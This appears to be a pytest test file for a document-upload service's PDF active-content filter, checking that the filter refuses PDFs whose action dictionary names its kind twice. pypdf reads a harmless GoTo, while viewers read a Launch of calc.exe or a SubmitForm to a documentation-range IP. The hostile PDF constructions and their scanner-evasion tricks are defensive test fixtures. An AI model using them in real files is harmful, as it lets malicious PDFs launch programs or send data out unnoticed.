"""A PDF action whose kind is written twice: pypdf reads the first, viewers the last.

``<</S/GoTo … /S/Launch/F(calc.exe)>>``: pypdf keeps the first ``/S`` of a
dictionary (and warns), while pdf.js, MuPDF and PDFium keep the last, so the
object walk saw a harmless link where a viewer sees a program launched. The byte
look sees both values, as long as nothing hides them from it: before, it never read
compressed object streams, and a string or a comment holding ``stream`` made it skip
everything up to the next ``endstream`` as if it were page content.
"""

from __future__ import annotations

import io

import pytest
from evidence_samples import classic_pdf
from hostile_evidence import pdf_open_action_in_object_stream
from hubkit import Hub
from pypdf import PdfReader
from pypdf.generic import DictionaryObject

from .conftest import problem_slug, stored_blobs, upload  # type: ignore[import-not-found]

_GO_TO = b"/S/GoTo/D[3 0 R/Fit]"
_LAUNCH = b"/S/Launch/F(calc.exe)"
_SUBMIT = b"/S/SubmitForm/F(http://203.0.113.1/collect)"
_CATALOG = b"<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R>>"
_PAGES = [
    b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
    b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 100]>>",
]


def _plain(action: bytes) -> bytes:
    return classic_pdf([_CATALOG, *_PAGES, action])


HIDDEN = {
    "in-an-object-stream": lambda: pdf_open_action_in_object_stream(
        b"<<" + _GO_TO + _LAUNCH + b">>"
    ),
    "after-a-string-holding-stream": lambda: _plain(
        b"<<" + _GO_TO + b"/T(stream\n)" + _LAUNCH + b"/U(endstream)>>"
    ),
    "after-a-comment-holding-stream": lambda: _plain(
        b"<<" + _GO_TO + b"%stream\n" + _SUBMIT + b"%endstream\n>>"
    ),
    "after-a-name-holding-stream": lambda: _plain(
        b"<<" + _GO_TO + b"/T/stream\n" + _LAUNCH + b"/U/endstream>>"
    ),
}


@pytest.mark.parametrize("where", sorted(HIDDEN))
async def test_a_second_action_kind_is_refused_wherever_it_hides(hub: Hub, where: str) -> None:
    data = HIDDEN[where]()
    catalog = PdfReader(io.BytesIO(data)).trailer["/Root"].get_object()
    assert isinstance(catalog, DictionaryObject)
    action = catalog["/OpenAction"].get_object()
    assert isinstance(action, DictionaryObject)
    assert str(action["/S"]) == "/GoTo"  # what pypdf, and so the object walk, reads
    response, body = await upload(hub, data, "application/pdf")
    assert response.status == 422, body
    assert problem_slug(body) == "evidence-active-content"
    assert stored_blobs(hub) == []


async def test_strings_and_comments_around_real_streams_are_still_accepted(hub: Hub) -> None:
    """A content stream whose operators spell an action's name stays page content."""
    content = b"BT (a (nested) string) Tj ET % /Launch /JS\n/JavaScript 1 Tf"
    pages = [
        _PAGES[0],
        b"<</Type/Page/Parent 2 0 R/Contents 5 0 R/MediaBox[0 0 9 9]/T(a \\) stream\n)>>",
    ]
    stream = b"<</Length %d>>\nstream\n%s\nendstream" % (len(content), content)
    data = classic_pdf([_CATALOG.replace(b"/OpenAction 4 0 R", b""), *pages, b"null", stream])
    response, body = await upload(hub, data, "application/pdf")
    assert response.status == 201, body
